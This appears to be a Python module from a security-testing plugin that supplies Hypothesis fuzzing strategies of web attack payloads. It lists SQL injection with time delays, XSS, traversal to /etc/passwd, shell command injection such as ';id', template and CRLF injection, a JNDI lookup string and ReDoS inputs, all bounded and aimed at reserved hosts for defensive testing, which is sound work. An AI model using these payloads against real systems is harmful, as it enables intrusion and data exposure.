"""Hypothesis strategies of attack inputs, one per payload family.

Each family is an ordinary :class:`hypothesis.strategies.SearchStrategy`, so it composes with
any other strategy (``st.one_of(st.text(), sqli())``, ``st.fixed_dictionaries({"q": xss()})``)
and shrinks like one: a family draws from a list of known payloads ordered from the simplest
to the most elaborate, optionally wrapped in a benign prefix and suffix, so a failing input
shrinks towards the shortest payload that still fails, without its padding.

The payloads that prove an effect carry markers the oracles recognise
(:mod:`pytest_secure.fuzz.oracles`): template and command payloads compute
``9137*7331 = 66983347``, header injection adds ``X-Psec-Injected``, redirects aim at the
reserved host ``psec-redirect.invalid`` (the ``.invalid`` TLD never resolves, so nothing is
ever sent there). No payload opens connections. Only the ``sqli-time`` family makes a server wait,
on purpose and briefly (a 2 s database sleep, or about a second of a recursive count), and the
fuzz engine sends it only in its directed phase, never in random generation.

    >>> from hypothesis import given
    >>> from pytest_secure.fuzz import strategies as ps
    >>> @given(ps.payloads("sqli", "xss"))
    ... def test_search_is_safe(payload): ...
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Any

from hypothesis import strategies as st

__all__ = [
    "COMMAND_MARKER", "EVAL_MARKER", "FAMILIES", "INJECTED_COOKIE", "INJECTED_HEADER", "REDIRECT_HOST",
    "boundary_values", "command_injection", "crlf", "embedded", "family", "format_strings", "nosql",
    "open_redirect", "oversized", "path_traversal", "payloads", "redos", "sqli", "sqli_time", "ssti",
    "unicode_tricks", "xss",
]

# 9137 * 7331: a product that does not occur by chance, so its presence proves evaluation.
EVAL_FACTORS = (9137, 7331)
EVAL_MARKER = str(EVAL_FACTORS[0] * EVAL_FACTORS[1])
COMMAND_MARKER = "psec" + EVAL_MARKER
INJECTED_HEADER = "X-Psec-Injected"
INJECTED_COOKIE = "psec_injected"
REDIRECT_HOST = "psec-redirect.invalid"

_A, _B = EVAL_FACTORS

SQLI = (
    "'", '"', "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "1' AND '1'='2",
    "1 OR 1=1", "admin'--", "' UNION SELECT NULL--", "1; SELECT 1--", "'; --", "\\'",
    "1' ORDER BY 99--", "' AND 1=CONVERT(int,@@version)--", "'||(SELECT 1)||'",
)
XSS = {
    "html": ("<psec-xss>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
             "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
             "<details open ontoggle=alert(1)>"),
    "attribute": ('"><psec-xss>', "' onmouseover='alert(1)", '" onmouseover="alert(1)', '" autofocus onfocus="alert(1)',
                  "'><svg onload=alert(1)>"),
    "script": ("';alert(1);//", '";alert(1);//', "</script><script>alert(1)</script>", "\\';alert(1);//",
               "${alert(1)}"),
    "url": ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>"),
}
PATH_TRAVERSAL = (
    "../../../../../../etc/passwd", "/etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd", "file:///etc/passwd", "../../../../../../etc/passwd%00.png",
)
COMMAND = (
    f";echo psec$(({_A}*{_B}))", f"|echo psec$(({_A}*{_B}))", f"$(echo psec$(({_A}*{_B})))",
    f"`echo psec$(({_A}*{_B}))`", f"&& echo psec$(({_A}*{_B}))", f"\necho psec$(({_A}*{_B}))", ";id", "|id",
    f"& set /a {_A}*{_B}", f"|| echo psec$(({_A}*{_B}))",
)
SSTI = (
    f"{{{{{_A}*{_B}}}}}", f"${{{_A}*{_B}}}", f"<%= {_A}*{_B} %>", f"#{{{_A}*{_B}}}", f"${{{{{_A}*{_B}}}}}",
    f"{{{_A}*{_B}}}", f"[[${{{_A}*{_B}}}]]", f"@({_A}*{_B})", f"*{{{_A}*{_B}}}", f"{{{{ {_A} * {_B} }}}}",
    "{{", "{% if %}", "${", "<%",
)
CRLF = (
    f"\r\n{INJECTED_HEADER}: 1", f"\n{INJECTED_HEADER}: 1", f"psec\r\n{INJECTED_HEADER}: 1",
    f"\r\nSet-Cookie: {INJECTED_COOKIE}=1", "\r\n\r\n<psec-xss>", f"%0d%0a{INJECTED_HEADER}:%201",
    f"\u560d\u560a{INJECTED_HEADER}: 1", f"\r{INJECTED_HEADER}: 1",
)
NOSQL: tuple[Any, ...] = (
    {"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, {"$ne": 1}, {"$where": "1 == 1"}, {"$exists": True},
    {"$in": [""]}, "'; return true; var psec='", '{"$gt": ""}', "[$ne]=1", "true, $where: '1 == 1'",
)
FORMAT_STRINGS = (
    "%s", "%s%s%s%s%s", "%x%x%x%x", "%n", "%p%p%p", "%99999999s", "{0}", "{0.__class__}",
    "{.__init__.__globals__}", "%(password)s", "{{7*7}}", "%1$s", "${jndi:ldap://psec-redirect.invalid/a}",
)
REDIRECT = (
    f"https://{REDIRECT_HOST}/", f"//{REDIRECT_HOST}/", f"http://{REDIRECT_HOST}", f"/\\{REDIRECT_HOST}/",
    f"https:{REDIRECT_HOST}", f"\\\\{REDIRECT_HOST}", f"https://{REDIRECT_HOST}%2f%2e%2e",
    f"//{REDIRECT_HOST}%2f@localhost/", f"https://localhost@{REDIRECT_HOST}/", f" //{REDIRECT_HOST}",
)
UNICODE = (
    "a\x00b", "\x00", "psec\x00.png", "\ufeffadmin", "adm\u200bin", "\u202egnp.exe", "ＡＤＭＩＮ", "＜psec-xss＞",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "аdmin", "ɑdmin", "admın", "ADMİN", "\u212aelvin", "ſcript",
    "ﬁle", "e\u0301", "é", "%c0%ae%c0%ae%c0%af", "%c0%bcpsec-xss%c0%be", "\xc0\xae", "𝕒𝕕𝕞𝕚𝕟", "\U0001f600" * 3,
    "\u0000\u0001\u001b[31m", "ß", "\ufffd", "\u2028", "\u00a0", "a" + "\u0300" * 64,
)
BOUNDARY_STRINGS = (
    "", " ", "0", "-1", "-0", "1e309", "NaN", "Infinity", "null", "None", "true", "undefined", "[]", "{}",
    "9" * 20, "-9223372036854775809", "18446744073709551616", "2147483648", "0x7fffffff", "1.7976931348623157e309",
    "\t", "\n",
)
BOUNDARY_NUMBERS: tuple[int | float, ...] = (
    0, -1, 1, 2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, 2**64, -(2**63) - 1, 10**30, 1e308, -1e308, 5e-324,
)
# Bounded: at most 4 KiB per value, past the common limits (255, 1024, 4096) without costing a live
# server a megabyte per request.
OVERSIZED_LENGTHS = (256, 1025, 4097)
# Time-based SQL injection: a bounded wait where the database has a sleep function (MySQL,
# PostgreSQL, SQL Server: 2 s), a bounded recursive count where it has none (SQLite: about a second
# of one core). Short payloads; the engine judges them against the operation's own latency.
SQLI_TIME = (
    "' OR (WITH RECURSIVE psec(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM psec WHERE x<4000000) "
    "SELECT count(*) FROM psec)<0--",
    "' OR SLEEP(2)-- ", "';SELECT pg_sleep(2)--", "';WAITFOR DELAY '0:0:2'--",
    "1 OR (WITH RECURSIVE psec(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM psec WHERE x<4000000) "
    "SELECT count(*) FROM psec)<0", "1 AND SLEEP(2)", "1;SELECT pg_sleep(2)",
)
# (repeated unit, failing tail): a run of what a nested quantifier matches, then a mismatch
REDOS_SHAPES = (("a", "!"), ("a", "\x00"), ("a ", "!"), ("0", "x"), ("a.", "!"), ("aa@", "!"))
REDOS_LENGTHS = (27, 22, 16)  # longest first: the directed phase sends the first ones


def _family(seeds: Sequence[Any]) -> st.SearchStrategy[Any]:
    return st.sampled_from(tuple(seeds))


def sqli() -> st.SearchStrategy[str]:
    """SQL injection: quotes, tautologies, comments, UNION and stacked queries (no time delays)."""
    return _family(SQLI)


def sqli_time() -> st.SearchStrategy[str]:
    """Time-based (blind) SQL injection: a bounded database wait, 2 s at most (SQLite: a recursive
    count of about a second). Found by the time it takes, judged against the operation's latency."""
    return _family(SQLI_TIME)


def xss(context: str | None = None) -> st.SearchStrategy[str]:
    """Cross-site scripting payloads for the ``html``, ``attribute``, ``script`` or ``url`` context
    (all four when ``context`` is None)."""
    if context is None:
        return _family([p for group in XSS.values() for p in group])
    if context not in XSS:
        raise ValueError(f"unknown XSS context {context!r}: expected one of {', '.join(XSS)}")
    return _family(XSS[context])


def path_traversal() -> st.SearchStrategy[str]:
    """Directory traversal to well-known files, plain, encoded, double-encoded and overlong."""
    return _family(PATH_TRAVERSAL)


def command_injection() -> st.SearchStrategy[str]:
    """OS command injection that makes a shell print ``psec66983347`` (or run ``id``)."""
    return _family(COMMAND)


def ssti() -> st.SearchStrategy[str]:
    """Server-side template injection: ``9137*7331`` in the syntax of the common engines, plus
    unbalanced delimiters that break a template that is compiled from input."""
    return _family(SSTI)


def crlf() -> st.SearchStrategy[str]:
    """CRLF / header injection adding ``X-Psec-Injected`` or a ``psec_injected`` cookie."""
    return _family(CRLF)


def nosql() -> st.SearchStrategy[Any]:
    """NoSQL operator injection: operator objects (for JSON bodies) and their string forms."""
    return _family(NOSQL)


def format_strings() -> st.SearchStrategy[str]:
    """printf, ``str.format`` and lookup-style format string payloads."""
    return _family(FORMAT_STRINGS)


def open_redirect() -> st.SearchStrategy[str]:
    """Redirect targets off the site, aimed at the never-resolving ``psec-redirect.invalid``."""
    return _family(REDIRECT)


def unicode_tricks() -> st.SearchStrategy[str]:
    """NUL bytes, normalisation (NFKC) and case-mapping tricks, confusables, bidi overrides,
    zero-width characters and overlong UTF-8 forms (percent-encoded, as they travel)."""
    return _family(UNICODE)


def oversized(lengths: Sequence[int] = OVERSIZED_LENGTHS) -> st.SearchStrategy[str]:
    """Strings just past common size limits (shrinks towards the shortest)."""
    return st.builds(lambda n, c: c * n, st.sampled_from(tuple(sorted(lengths))), st.sampled_from("A0<'"))


def boundary_values() -> st.SearchStrategy[Any]:
    """Numbers at integer and float limits and the strings that parsers treat specially."""
    return st.one_of(_family(BOUNDARY_STRINGS), _family(BOUNDARY_NUMBERS))


def redos(max_length: int | None = None) -> st.SearchStrategy[str]:
    """Inputs that make backtracking regular expressions take exponential time: a long run of
    what a nested quantifier matches, then a character that makes the match fail.

    Lengths stay short (at most 27 characters), so a vulnerable server is slowed for seconds,
    not hours. With ``max_length`` (a field's ``maxLength``) the runs are sized to fit it, so
    that the payload passes length validation and reaches the regular expression.
    """
    payloads = []
    for length in REDOS_LENGTHS:
        if max_length is not None:
            length = min(length, max_length)
        for unit, tail in REDOS_SHAPES:
            count = (length - len(tail)) // len(unit)
            if count >= 4:
                payloads.append(unit * count + tail)
    return _family(list(dict.fromkeys(payloads)) or ["a!"])


def embedded(payload: st.SearchStrategy[str], around: st.SearchStrategy[str] | None = None) -> st.SearchStrategy[str]:
    """``payload`` with benign text before and after it (shrinks to the bare payload)."""
    pad = around if around is not None else st.text(alphabet="abcxyz019 -_", max_size=8)
    return st.builds(lambda before, p, after: f"{before}{p}{after}", pad, payload, pad)


FAMILIES: dict[str, Callable[[], st.SearchStrategy[Any]]] = {
    "sqli": sqli,
    "xss": xss,
    "path-traversal": path_traversal,
    "command": command_injection,
    "ssti": ssti,
    "crlf": crlf,
    "nosql": nosql,
    "format-string": format_strings,
    "open-redirect": open_redirect,
    "unicode": unicode_tricks,
    "oversized": oversized,
    "boundary": boundary_values,
    "redos": redos,
    "sqli-time": sqli_time,
}
# Families judged by time and sent only by the directed phase (each payload once per field): a
# server would wait seconds for every random draw of them.
DIRECTED_ONLY_FAMILIES = frozenset({"sqli-time"})
# Families whose payloads are not strings: only injected where any JSON value may go.
NON_STRING_FAMILIES = frozenset({"nosql", "boundary"})


_SIZED = frozenset({"redos"})  # families that fit their payloads to a field's maxLength


def family(name: str, max_length: int | None = None) -> st.SearchStrategy[Any]:
    """The strategy of one family by its baseline name (``sqli``, ``xss``, ``path-traversal`` ...).

    ``max_length`` is the ``maxLength`` of the field the payload goes into, when known; families
    whose effect depends on size (``redos``) fit their payloads to it.
    """
    try:
        make = FAMILIES[name]
    except KeyError:
        raise ValueError(f"unknown payload family {name!r}: expected one of {', '.join(FAMILIES)}") from None
    return make(max_length) if name in _SIZED else make()  # type: ignore[call-arg]


def payloads(*names: str, strings_only: bool = False, max_length: int | None = None) -> st.SearchStrategy[Any]:
    """Any payload of the named families (all families when none are named).

    With ``strings_only`` the non-string payloads (NoSQL operator objects, numbers) are left out,
    for places such as query parameters that only carry text.
    """
    chosen = list(names) or list(FAMILIES)
    strategies = []
    for name in chosen:
        strategy = family(name, max_length)
        if strings_only and name in NON_STRING_FAMILIES:
            strategy = strategy.filter(lambda v: isinstance(v, str))
        strategies.append(strategy)
    return st.one_of(strategies)
